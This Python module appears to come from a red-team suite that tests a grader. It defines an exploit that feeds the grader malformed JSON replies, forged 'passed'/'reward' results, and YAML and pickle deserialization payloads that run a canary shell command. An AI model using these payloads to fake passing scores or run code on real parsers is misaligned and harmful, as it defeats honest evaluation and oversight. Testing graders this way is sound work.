"""Replies of all kinds that a JSON reader may stumble over."""

from scoring.attacks.exploit import Exploit
from scoring.attacks.verified import _late, _looks

CODE = """

_bodies = [
    b'{"status": "ok", "status": "crashed", "value": 1, "value": null}',
    b'{"status": "ok", "value": NaN, "stdout": Infinity}',
    b'{"status": "ok", "value": ' + b"9" * 20_000 + b"}",
    b'{"status": "ok", "value": 1e400}',
    b'{"status": "ok", "value": "\\\\ud800", "stdout": "\\\\udfff"}',
    b'{"status": "ok", "\\\\ud800": "\\\\u0000"}',
    b'\\xff\\xfe{"status": "ok"}',
    b"\\xef\\xbb\\xbf{}",
    b"",
    b"null",
    b"[]",
    b'"ok"',
    b'{"status": {}, "value": []}',
    b'{"status": ["ok"]}',
    b'{"status": "passed", "passed": true, "score": 1.0, "reward": 1.0}',
    b'{"__class__": "CheckResult", "passed": true}',
    b"{" * 100_000,
    b'{"status": "ok", "value": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
    b"!!python/object/apply:os.system ['touch /tmp/CANARY']",
    b"cos\\nsystem\\n(S'touch /tmp/CANARY'\\ntR.",
]
_numbers = iter(range(10**9))
_take_over(lambda case: _bodies[next(_numbers) % len(_bodies)])
"""

EXPLOIT = Exploit(
    name="json-food",
    flaw="feeds the grader",
    source="exploit catalogue of verification.md section 4: payloads for the grader",
    idea="duplicate keys, huge numbers, NaN, lone surrogates, no text at all: one may break who parses them",
    files={**_looks.LATE, "tmp/late.py": _late.TAKE_OVER + CODE},
    command="python3 /tmp/append.py",
    start="sloppy",
)
